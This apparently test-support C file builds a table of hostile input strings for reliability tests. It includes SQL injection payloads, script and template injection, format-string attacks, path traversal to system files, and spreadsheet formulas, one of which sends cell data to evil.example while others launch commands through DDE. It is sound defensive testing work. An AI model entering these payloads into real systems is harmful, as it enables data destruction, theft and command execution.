/* hostile-strings.c
 *
 * Copyright 2026 The Sunlight authors
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */

#include "config.h"

#include <string.h>

#include "hostile-strings.h"

#define LONG_LENGTH (64 * 1024)

static const struct
{
  const char *label;
  const char *text;
} table[] = {
  /* SQL */
  { "drop-table", "'; DROP TABLE spend; --" },
  { "or-1-1", "\" OR 1=1 --" },
  { "bobby-tables", "Robert'); DROP TABLE students;--" },
  { "or-quote", "' OR '1'='1" },
  { "delete", "x'; DELETE FROM channel WHERE '1'='1" },
  { "attach", "'; ATTACH DATABASE '/tmp/sunlight-pwned.db' AS pwn; CREATE TABLE pwn.t(x); --" },
  { "union", "' UNION SELECT name, sql FROM sqlite_master --" },
  { "comment", "/* */ -- ; \"); COMMIT; BEGIN; --" },
  { "parameters", "?1 ?2 :name @name $name ?" },
  { "null-word", "NULL" },
  { "pragma", "'; PRAGMA writable_schema = 1; --" },
  /* Escapes, quotes, NUL spelled out */
  { "backslashes", "C:\\new\\table\\" },
  { "unc", "\\\\server\\share\\..\\x" },
  { "escaped-quotes", "\\\"\\'\\\\\"" },
  { "nul-escape", "before\\u0000after \\0 \\x00 %00" },
  { "csv-quotes", "He said \"hi\", then \"\"left\"\"" },
  { "quote-only", "\"" },
  { "two-quotes", "\"\"" },
  { "json", "{\"_id\":\"_design/x\",\"type\":\"goal\"}" },
  { "markup", "<script>alert(1)</script>&amp;</td>" },
  { "template", "{{7*7}} ${7*7} #{7*7} %{x}" },
  /* printf */
  { "format", "%s%n%x%p%d%%%c" },
  { "format-positional", "%1$s %99999$n %.9999999f %ls" },
  /* Line ends */
  { "crlf", "first\r\nsecond" },
  { "lone-cr", "first\rsecond" },
  { "lone-lf", "first\nsecond\n\nthird" },
  { "tab", "a\tb" },
  { "padded", "  spaced out  " },
  /* Unicode */
  { "rtl-override", "invoice\xE2\x80\xAE" "fdp.exe" },
  { "bidi-isolates", "\xE2\x81\xA6" "abc" "\xE2\x81\xA9 \xE2\x80\x8F" "x" "\xE2\x80\x8E" },
  { "zwj-family", "\xF0\x9F\x91\xA8\xE2\x80\x8D\xF0\x9F\x91\xA9\xE2\x80\x8D\xF0\x9F\x91\xA7" },
  { "zero-width", "a\xE2\x80\x8B" "b\xE2\x80\x8C" "c\xE2\x80\x8D" "d\xEF\xBB\xBF" "e" },
  { "combining", "Z\xCC\xB4\xCC\xA1\xCC\x9B" "a\xCC\xB7" "l\xCC\xB8" "g\xCC\xB5" "o e\xCC\x81" },
  { "nfc", "caf\xC3\xA9" },
  { "nfd", "cafe\xCC\x81" },
  { "emoji", "\xF0\x9F\x92\xB8\xF0\x9F\x93\x88\xF0\x9F\x94\xA5 \xF0\x9F\x87\xAE\xF0\x9F\x87\xB7" },
  { "persian", "\xD8\xA8\xD9\x88\xD8\xAF\xD8\xAC\xD9\x87\xE2\x80\x8C\xDB\x8C \xD8\xA8\xD8\xA7\xD8\xB2\xD8\xA7\xD8\xB1\xDB\x8C\xD8\xA7\xD8\xA8\xDB\x8C \xDB\xB1\xDB\xB4\xDB\xB0\xDB\xB4" },
  { "thai", "\xE0\xB8\x87\xE0\xB8\x9A\xE0\xB8\x9B\xE0\xB8\xA3\xE0\xB8\xB0\xE0\xB8\xA1\xE0\xB8\xB2\xE0\xB8\x93\xE0\xB8\x81\xE0\xB8\xB2\xE0\xB8\xA3\xE0\xB8\x95\xE0\xB8\xA5\xE0\xB8\xB2\xE0\xB8\x94" },
  { "chinese", "\xE5\xB8\x82\xE5\x9C\xBA\xE9\xA2\x84\xE7\xAE\x97\xEF\xBC\x9B\xE6\xB8\xA0\xE9\x81\x93\xE2\x80\x9C\xE6\x90\x9C\xE7\xB4\xA2\xE2\x80\x9D" },
  { "fullwidth", "\xEF\xBC\xB3\xEF\xBD\x85\xEF\xBD\x81\xEF\xBD\x92\xEF\xBD\x83\xEF\xBD\x88" },
  { "homoglyph", "\xD0\x85\xD0\xB5\xD0\xB0r\xD1\x81h" },
  { "astral", "\xF0\x9D\x95\xB3\xF0\x9D\x96\x94\xF0\x9D\x96\x92 \xF0\x90\x8D\x88" },
  { "separators", "line\xE2\x80\xA8" "para\xE2\x80\xA9" "end\xC2\x85" "nel" },
  { "replacement", "\xEF\xBF\xBD\xEF\xBF\xBE" },
  { "nbsp", "\xC2\xA0" "non-breaking\xC2\xA0" },
  /* Spreadsheet formulas */
  { "formula-equals", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Search\")" },
  { "formula-dde", "=cmd|' /C calc'!A0" },
  { "formula-plus", "+1+cmd|' /C calc'!A0" },
  { "formula-minus", "-2+3+cmd|' /C calc'!A0" },
  { "formula-at", "@SUM(1+1)*cmd|' /C calc'!A0" },
  /* Paths */
  { "dot-dot", "../../../../etc/passwd" },
  { "dot-dot-back", "..\\..\\windows\\win.ini" },
  /* Only the importers see these: they must refuse them */
  { "escape", "\x1b[31mred\x1b[0m" },
  { "bell-del", "ring\x07 del\x7f" },
};

static const struct
{
  const char *label;
  const char *text;
} not_utf8[] = {
  { "latin1", "caf\xe9" },
  { "overlong-slash", "\xc0\xaf" "etc" },
  { "surrogate-bytes", "\xed\xa0\x80" },
  { "bom-16", "\xff\xfe" "x" },
};

gboolean
hostile_quick (void)
{
  return g_strcmp0 (g_getenv ("SL_RELIABILITY_QUICK"), "1") == 0;
}

static HostileFlags
flags_of (const char *text,
          gsize       length)
{
  HostileFlags flags = 0;

  if (!g_utf8_validate_len (text, length, NULL))
    flags |= HOSTILE_NOT_UTF8;
  for (gsize i = 0; i < length; i++)
    {
      guchar c = (guchar) text[i];

      if ((c < 0x20 && c != '\t' && c != '\r' && c != '\n') || c == 0x7f)
        flags |= HOSTILE_CONTROL;
      if (c == '\r' || c == '\n')
        flags |= HOSTILE_LINE_END;
      if (c == ';' || c == '@' || c == '/')
        flags |= HOSTILE_TOUCH_SEP;
    }
  if (length > 0 && (g_ascii_isspace (text[0]) || g_ascii_isspace (text[length - 1])))
    flags |= HOSTILE_PADDED;
  if (length > 0 && strchr ("=+-@", text[0]) != NULL)
    flags |= HOSTILE_FORMULA;
  if (length >= LONG_LENGTH)
    flags |= HOSTILE_LONG;
  return flags;
}

static void
add (GPtrArray  *strings,
     const char *label,
     char       *text)
{
  HostileString *s = g_new0 (HostileString, 1);

  s->label = label;
  s->text = text;
  s->length = strlen (text);
  s->flags = flags_of (text, s->length);
  g_ptr_array_add (strings, s);
}

static void
hostile_string_free (gpointer data)
{
  HostileString *s = data;

  g_free (s->text);
  g_free (s);
}

/* 64 KiB of every kind of trouble at once, over and over. */
static char *
long_string (void)
{
  static const char piece[] = "'; DROP TABLE spend; -- \" \\ %s\xE2\x80\xAE \xE0\xB8\x87\xF0\x9F\x92\xB8 ";
  GString *text = g_string_sized_new (LONG_LENGTH + sizeof piece);

  g_string_append (text, "long ");
  while (text->len + sizeof piece - 1 <= LONG_LENGTH)
    g_string_append (text, piece);
  while (text->len < LONG_LENGTH)
    g_string_append_c (text, 'x');
  return g_string_free (text, FALSE);
}

GPtrArray *
hostile_strings_new (gboolean with_not_utf8)
{
  GPtrArray *strings = g_ptr_array_new_with_free_func (hostile_string_free);

  for (guint i = 0; i < G_N_ELEMENTS (table); i++)
    add (strings, table[i].label, g_strdup (table[i].text));
  for (guint i = 0; with_not_utf8 && i < G_N_ELEMENTS (not_utf8); i++)
    add (strings, not_utf8[i].label, g_strdup (not_utf8[i].text));
  if (!hostile_quick ())
    add (strings, "64-kib", long_string ());
  return strings;
}

gboolean
hostile_string_is_plain (const HostileString *s)
{
  return (s->flags & (HOSTILE_CONTROL | HOSTILE_NOT_UTF8)) == 0;
}

char *
hostile_describe (const char *text)
{
  g_autofree char *valid = g_utf8_make_valid (text, -1);
  GString *out = g_string_new (NULL);
  glong n = 0;

  for (const char *p = valid; *p != '\0' && n < 80; p = g_utf8_next_char (p), n++)
    {
      gunichar c = g_utf8_get_char (p);

      if (c < 0x20 || c == 0x7f || c == '\\' || c == 0x202e || c == 0x200f)
        g_string_append_printf (out, "\\u%04x", c);
      else
        g_string_append_unichar (out, c);
    }
  if (strlen (text) > 80)
    g_string_append_printf (out, "… (%zu bytes)", strlen (text));
  return g_string_free (out, FALSE);
}

void
hostile_csv_row (GString            *out,
                 const char * const *fields,
                 guint               n_fields)
{
  for (guint i = 0; i < n_fields; i++)
    {
      const char *text = fields[i] != NULL ? fields[i] : "";

      if (i > 0)
        g_string_append_c (out, ',');
      if (strpbrk (text, ",\"\r\n") == NULL)
        {
          g_string_append (out, text);
          continue;
        }
      g_string_append_c (out, '"');
      for (const char *p = text; *p != '\0'; p++)
        {
          if (*p == '"')
            g_string_append_c (out, '"');
          g_string_append_c (out, *p);
        }
      g_string_append_c (out, '"');
    }
  g_string_append_c (out, '\n');
}
